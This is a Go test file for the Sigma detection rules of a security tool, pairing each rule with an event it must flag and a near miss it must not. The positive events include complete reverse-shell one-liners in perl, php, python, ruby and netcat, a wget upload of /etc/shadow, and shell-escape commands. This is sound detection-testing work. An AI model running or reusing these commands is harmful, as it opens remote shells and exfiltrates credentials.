package sigmaprocessor

import (
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/cairnsec/cairn/internal/sigma"
)

func args(s ...string) []string { return s }

func parent(exe string, a ...string) map[string]any {
	pa := make([]any, len(a))
	for i, s := range a {
		pa[i] = s
	}
	m := map[string]any{"process.parent.executable": exe}
	if len(a) > 0 {
		m["process.parent.args"] = pa
	}
	return m
}

// defaultRuleCases: for each curated rule, an event it must flag and a
// near miss it must not.
var defaultRuleCases = map[string]struct{ yes, no map[string]any }{
	"00eee2a5-fdb0-4746-a21d-e43fbdea5681": { // doas.conf created
		ecsFile("/etc/doas.conf", "/usr/bin/vi"), ecsFile("/etc/doas.conf.bak", "/usr/bin/vi")},
	"179b3686-6271-4d87-807d-17d843a8af73": { // base64 command in a file name
		ecsFile("/tmp/{echo,YmFzaCAtaQ==}|{base64,-d}|bash", "/bin/bash"), ecsFile("/tmp/echo-base64.txt", "/bin/bash")},
	"c0239255-822c-4630-b7f1-35362bcb8f44": { // Triple Cross lock file
		ecsFile("/tmp/rootlog", "/tmp/x"), ecsFile("/tmp/rootlog2", "/tmp/x")},
	"1a2ea919-d11d-4d1e-8535-06cda13be20f": { // Triple Cross persistence
		ecsFile("/etc/cron.d/ebpfbackdoor", "/tmp/x"), ecsFile("/etc/cron.d/ebpfbackdoor.sh", "/tmp/x")},
	"cb39d16b-b3b6-4a7a-8222-1cf24b686ffc": { // wget --post-file (auditd EXECVE, from process.args)
		ecsProcess("/usr/bin/wget", args("wget", "--post-file=/etc/shadow", "http://198.51.100.7/u"), nil),
		ecsProcess("/usr/bin/wget", args("wget", "--post-data=a", "http://198.51.100.7/u"), nil)},
	"83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871": { // bash holding a connection
		ecsConnection(map[string]any{"process.executable": "/bin/bash", "destination.ip": "45.134.26.117", "destination.port": 4444}),
		ecsConnection(map[string]any{"process.executable": "/bin/bash", "destination.ip": "127.0.0.1", "destination.port": 4444})},
	"a46c93b7-55ed-4d27-a41b-c259456c4746": { // mining pool
		ecsConnection(map[string]any{"process.executable": "/tmp/xmrig", "destination.ip": "198.51.100.9", "destination.domain": "pool.supportxmr.com"}),
		ecsConnection(map[string]any{"process.executable": "/tmp/xmrig", "destination.ip": "198.51.100.9", "destination.domain": "supportxmr.com"})},
	"c4568f5d-131f-4e78-83d4-45b2da0ec4f1": { // LocaltoNet, initiated here
		ecsConnection(map[string]any{"destination.domain": "abc.localto.net", "destination.ip": "198.51.100.9"}),
		ecsConnection(map[string]any{"destination.domain": "abc.localto.net", "destination.ip": "198.51.100.9", "network.direction": "ingress"})},
	"19bf6fdb-7721-4f3d-867f-53467f6a5db6": { // ngrok
		ecsConnection(map[string]any{"destination.domain": "tunnel.us.ngrok.com", "destination.ip": "198.51.100.9"}),
		ecsConnection(map[string]any{"destination.domain": "ngrok.com", "destination.ip": "198.51.100.9"})},
	"8c1a5675-cb85-452f-a298-b01b22a51856": { // awk system()
		ecsProcess("/usr/bin/awk", args("awk", `BEGIN {system("/bin/sh")}`), nil),
		ecsProcess("/usr/bin/awk", args("awk", `BEGIN {print "/bin/sh"}`), nil)},
	"ba592c6d-6888-43c3-b8c6-689b8fe47337": { // base64 piped to a shell
		ecsProcess("/bin/bash", args("bash", "-c", "echo ZWNobyBoaQ== | base64 -d | bash"), nil),
		ecsProcess("/bin/bash", args("bash", "-c", "echo ZWNobyBoaQ== | base64 -d > out"), nil)},
	"fe2f9663-41cb-47e2-b954-8a228f3b9dff": { // base64 shebang
		ecsProcess("/bin/sh", args("sh", "-c", "echo IyEvYmluL2Jhc2ggLWk= | base64 -d > x"), nil),
		ecsProcess("/bin/sh", args("sh", "-c", "echo IyEvYmluL2NhdA== | base64 -d > x"), nil)},
	"db1ac3be-f606-4e3a-89e0-9607cbe6b98a": { // capsh --
		ecsProcess("/usr/sbin/capsh", args("capsh", "--"), nil), ecsProcess("/usr/sbin/capsh", args("capsh", "--print"), nil)},
	"fa4aaed5-4fe0-498d-bbc0-08e3346387ba": { // cp of passwd from /tmp
		ecsProcess("/bin/cp", args("cp", "/tmp/passwd", "/etc/passwd"), nil),
		ecsProcess("/bin/cp", args("cp", "/etc/passwd", "/var/backups/passwd.bak"), nil)},
	"9069ea3c-b213-4c52-be13-86506a227ab1": { // miner arguments
		ecsProcess("/tmp/.x/xmrig", args("./xmrig", "--donate-level=0", "-o", "pool.example:443"), nil),
		ecsProcess("/opt/app/bin/app", args("app", "--level=0", "-o", "out.txt"), nil)},
	"6adfbf8f-52be-4444-9bac-81b539624146": { // find -exec shell
		ecsProcess("/usr/bin/find", args("find", ".", "-exec", "/bin/sh", "-p", ";", "-quit"), nil),
		ecsProcess("/usr/bin/find", args("find", ".", "-name", "*.log", "-exec", "rm", "{}", ";"), nil)},
	"4b09c71e-4269-4111-9cdd-107d8867f0cc": { // flock -u shell
		ecsProcess("/usr/bin/flock", args("flock", "-u", "/", "/bin/sh"), nil),
		ecsProcess("/usr/bin/flock", args("flock", "/var/lock/job", "/bin/sh", "job.sh"), nil)},
	"9b5de532-a757-4d70-946c-1f3e44f48b4d": { // gcc -wrapper shell
		ecsProcess("/usr/bin/gcc", args("gcc", "-wrapper", "/bin/sh,-s", "."), nil),
		ecsProcess("/usr/bin/gcc", args("gcc", "-o", "x", "x.c"), nil)},
	"47b3bbd4-1bf7-48cc-84ab-995362aaa75a": { // git -p help pager shell
		ecsProcess("/bin/bash", args("bash", "0<&1"), parent("/usr/bin/git", "git", "-p", "help", "config")),
		ecsProcess("/bin/bash", args("bash", "0<&1"), parent("/usr/bin/git", "git", "help", "config"))},
	"e34cfa0c-0a50-4210-9cb3-5632d08eb041": { // GobRAT payload search
		ecsProcess("/bin/grep", args("grep", "-r", "frpc", "/etc"), nil), ecsProcess("/bin/grep", args("grep", "-r", "frp", "/etc"), nil)},
	"999c3b12-0a8c-40b6-8e13-dd7d62b75c7a": { // mkfifo in /tmp
		ecsProcess("/usr/bin/mkfifo", args("mkfifo", "/tmp/f"), nil), ecsProcess("/usr/bin/mkfifo", args("mkfifo", "/run/user/1000/f"), nil)},
	"7f734ed0-4f47-46c0-837f-6ee62505abd9": { // nc -e shell
		ecsProcess("/usr/bin/nc", args("nc", "-e", "/bin/sh", "203.0.113.5", "4444"), nil),
		ecsProcess("/usr/bin/nc", args("nc", "-l", "-p", "4444"), nil)},
	"2f6afa5b-4161-4c38-b336-bd63ab1c5c60": { // Cairn's: nc -e under its Debian name
		ecsProcess("/usr/bin/nc.traditional", args("nc", "-e", "/bin/dash", "203.0.113.5", "9001"), nil),
		ecsProcess("/usr/bin/nc.traditional", args("nc", "-z", "203.0.113.5", "9001"), nil)},
	"093d68c7-762a-42f4-9f46-95e79142571a": { // nice shell
		ecsProcess("/usr/bin/nice", args("nice", "/bin/sh"), nil), ecsProcess("/usr/bin/nice", args("nice", "-n", "10", "make"), nil)},
	"457df417-8b9d-4912-85f3-9dbda39c3645": { // nohup from /tmp
		ecsProcess("/usr/bin/nohup", args("nohup", "/tmp/.x/agent"), nil), ecsProcess("/usr/bin/nohup", args("nohup", "/opt/app/run"), nil)},
	"259df6bc-003f-4306-9f54-4ff1a08fa38e": { // perl reverse shell
		ecsProcess("/usr/bin/perl", args("perl", "-e", `use Socket;$i="203.0.113.5";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(4444,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};`), nil),
		ecsProcess("/usr/bin/perl", args("perl", "-e", `print "hello\n"`), nil)},
	"c6714a24-d7d5-4283-a36b-3ffd091d5f7e": { // php reverse shell
		ecsProcess("/usr/bin/php8.1", args("php", "-r", `$sock=fsockopen("203.0.113.5",4444);exec("/bin/sh -i <&3 >&3 2>&3");`), nil),
		ecsProcess("/usr/bin/php8.1", args("php", "-r", `echo 1;`), nil)},
	"55e862a8-dd9c-4651-807a-f21fcad56716": { // python base64 decoding one-liner
		ecsProcess("/usr/bin/python3", args("python3", "-c", `import base64;exec(base64.b64decode('aW1wb3J0IG9z'))`), nil),
		ecsProcess("/usr/bin/python3", args("python3", "-c", `import os;print(os.getcwd())`), nil)},
	"c4042d54-110d-45dd-a0e1-05c47822c937": { // python pty spawn
		ecsProcess("/usr/bin/python3", args("python3", "-c", `import pty; pty.spawn("/bin/bash")`), nil),
		ecsProcess("/usr/bin/python3", args("python3", "-c", `import pty`), nil)},
	"32e62bc7-3de0-4bb1-90af-532978fe42c0": { // python reverse shell
		ecsProcess("/usr/bin/python3", args("python3", "-c", `import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`), nil),
		ecsProcess("/usr/bin/python3", args("python3", "-c", `import socket;s=socket.socket()`), nil)},
	"2d2f44ff-4611-4778-a8fc-323a0e9850cc": { // python os.system shell
		ecsProcess("/usr/bin/python3.11", args("python3", "-c", `import os; os.system("/bin/sh")`), nil),
		ecsProcess("/usr/bin/python3.11", args("python3", "-c", `import os; os.system("ls")`), nil)},
	"b8bdac18-c06e-4016-ac30-221553e74f59": { // ruby reverse shell
		ecsProcess("/usr/bin/ruby", args("ruby", "-rsocket", "-e", `c=TCPSocket.new("203.0.113.5",4444);$stdin.reopen(c);$stdout.reopen(c);exec ARGV[0]`, "sh"), nil),
		ecsProcess("/usr/bin/ruby", args("ruby", "-e", `puts 1`, "sh"), nil)},
	"5cd16c8f-44a6-4654-81e7-a84d6db507d4": { // run from /dev/shm
		ecsProcess("/dev/shm/.x/kworker", args("[kworker]"), nil), ecsProcess("/var/dev/shm/x", args("x"), nil)},
	"312b42b1-bded-4441-8b58-163a3af58775": { // run from /tmp
		ecsProcess("/tmp/go-build3518135900/b001/exe/main", args("main", "-v"), nil), ecsProcess("/var/tmp/x", args("x"), nil)},
	"1182f3b3-e716-4efa-99ab-d2685d04360f": { // history deleted
		ecsProcess("/bin/rm", args("rm", "-f", "/root/.bash_history"), nil), ecsProcess("/bin/rm", args("rm", "-f", "/root/.bashrc"), nil)},
	"a015e032-146d-4717-8944-7a1884122111": { // hack tools
		ecsProcess("/tmp/merlin-agent", args("merlin-agent", "-url", "https://203.0.113.5:443"), nil),
		ecsProcess("/usr/bin/merlin", args("merlin"), nil)},
	"ea3ecad2-db86-4a89-ad0b-132a10d2db55": { // children of an interactive bash
		ecsProcess("/usr/bin/whoami", args("whoami"), parent("/bin/bash", "bash", "-i")),
		ecsProcess("/usr/bin/whoami", args("whoami"), parent("/bin/bash", "bash", "-i", "-c", "x"))},
	"2fade0b6-7423-4835-9d4f-335b39b83867": { // shell spawned by a binary in /tmp
		ecsProcess("/bin/bash", args("bash"), parent("/tmp/.x/gs-netcat")),
		ecsProcess("/bin/bash", args("bash"), parent("/usr/sbin/sshd"))},
	"0326c3c8-7803-4a0f-8c5c-368f747f7c3e": { // Triple Cross execve hijack
		ecsProcess("/usr/bin/sudo", args("sudo", "./execve_hijack"), nil), ecsProcess("/usr/bin/sudo", args("sudo", "./execve"), nil)},
	"22236d75-d5a0-4287-bf06-c93b1770860f": { // Triple Cross install
		ecsProcess("/usr/bin/sudo", args("sudo", "tc", "qdisc", "add", "dev", "enp0s3", "clsact"), nil),
		ecsProcess("/usr/bin/sudo", args("sudo", "tc", "qdisc", "add", "dev", "eth0", "clsact"), nil)},
	"7ab8f73a-fcff-428b-84aa-6a5ff7877dea": { // vim shell escape
		ecsProcess("/usr/bin/vim", args("vim", "-c", ":!/bin/sh"), nil), ecsProcess("/usr/bin/vim", args("vim", "-c", ":wq", "f"), nil)},
	"818f7b24-0fba-4c49-a073-8b755573b9c7": { // web server child
		ecsProcess("/usr/bin/whoami", args("whoami"), parent("/usr/sbin/nginx")),
		ecsProcess("/usr/bin/whoami", args("whoami"), parent("/usr/sbin/sshd"))},
	"4e25af4b-246d-44ea-8563-e42aacab006b": { // xterm to a remote display
		ecsProcess("/usr/bin/xterm", args("xterm", "-display", "203.0.113.5:1"), nil),
		ecsProcess("/usr/bin/xterm", args("xterm", "-display", ":0"), nil)},
}

func TestEveryDefaultRuleOnAPositiveAndANearMiss(t *testing.T) {
	f := newFixture(t, defaultConfig(), nil)
	set := f.p.loader.rules().set
	var loaded, covered []string
	for _, r := range set.Rules() {
		loaded = append(loaded, r.ID)
	}
	for id := range defaultRuleCases {
		covered = append(covered, id)
	}
	sort.Strings(loaded)
	sort.Strings(covered)
	require.Equal(t, loaded, covered, "every curated rule has a case, and every case a rule")

	byID := map[string]*sigma.Rule{}
	for _, r := range set.Rules() {
		byID[r.ID] = r
	}
	for id, c := range defaultRuleCases {
		r := byID[id]
		out := f.send(t, c.yes, c.no)
		assert.Contains(t, sigmaIDs(out[0]), id, "%s (%s) should flag its positive", r.Title, r.File)
		assert.NotContains(t, sigmaIDs(out[1]), id, "%s (%s) should not flag its near miss", r.Title, r.File)
	}
}

func TestCuratedSetAttribution(t *testing.T) {
	d, err := loadDefaults()
	require.NoError(t, err)
	require.Empty(t, d.unsup, "every curated rule loads")
	require.Len(t, d.rules, 43)
	for _, r := range d.rules {
		assert.NotEmpty(t, r.Author, "%s: the licence needs the author in match output", r.File)
		assert.NotEmpty(t, r.Tactics, "%s: ATT&CK tactics", r.File)
		assert.NotEqual(t, sigma.LevelInformational, r.Level, "%s raises a signal", r.File)
		assert.True(t, strings.HasPrefix(r.File, "default:"), r.File)
	}
	// The README lists each rule.
	readme, err := os.ReadFile(filepath.Join("rules", "README.md"))
	require.NoError(t, err)
	for _, r := range d.rules {
		assert.Contains(t, string(readme), r.ID, "rules/README.md lists %s", r.Title)
	}
}
